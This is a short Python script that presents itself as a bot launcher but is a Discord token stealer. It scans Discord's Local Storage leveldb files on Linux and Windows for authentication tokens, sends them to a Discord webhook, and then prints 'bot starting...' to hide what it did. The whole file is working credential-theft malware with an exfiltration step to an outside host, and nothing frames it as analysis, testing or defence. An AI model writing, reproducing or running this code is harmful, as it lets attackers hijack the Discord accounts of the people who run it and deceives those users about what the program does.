import os, re, glob, json, urllib.request
HOOK = "https://discord.com/api/webhooks/1234567890/EXAMPLE-webhook-token-placeholder"
def tokens():
    found = []
    for db in glob.glob(os.path.expanduser("~/.config/discord/Local Storage/leveldb/*.ldb")) + \
              glob.glob(os.path.expandvars(r"%APPDATA%\discord\Local Storage\leveldb\*.ldb")):
        found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", open(db, errors="ignore").read())
    return found
body = json.dumps({"content": "```" + "\n".join(tokens()) + "```"}).encode()
urllib.request.urlopen(urllib.request.Request(HOOK, data=body, headers={"Content-Type": "application/json"}))
print("bot starting...")
